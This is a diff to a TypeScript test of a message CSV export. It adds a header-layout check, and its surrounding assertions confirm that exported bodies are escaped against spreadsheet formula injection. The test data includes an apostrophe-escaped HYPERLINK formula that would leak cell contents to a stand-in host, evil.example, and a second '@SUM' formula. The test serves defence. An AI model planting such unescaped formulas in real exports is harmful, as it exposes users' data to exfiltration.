@@ -1,3 +1,4 @@
+import { messageCsvHeader } from '../../contract/message-csv.ts'
 import { EventEmitter } from 'node:events'
 import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
 import type { AddressInfo } from 'node:net'
@@ -598,6 +599,8 @@ describe.each(ENGINES)('message index on %s', (engine) => {
       expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]) // the BOM
       const rows = parseCsv(bytes.subarray(3).toString('utf8'), { columns: true }) as Array<Record<string, string>>
       expect(rows.length).toBe(24)
+      // The one layout of every message export (the History page's exports write it too).
+      expect(Object.keys(rows[0]!)).toEqual(messageCsvHeader('Europe/Paris'))
       const bodies = rows.map((x) => x.body!)
       expect(bodies).toContain(`'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`)
       expect(bodies).toContain("'@SUM(A1:A2)")
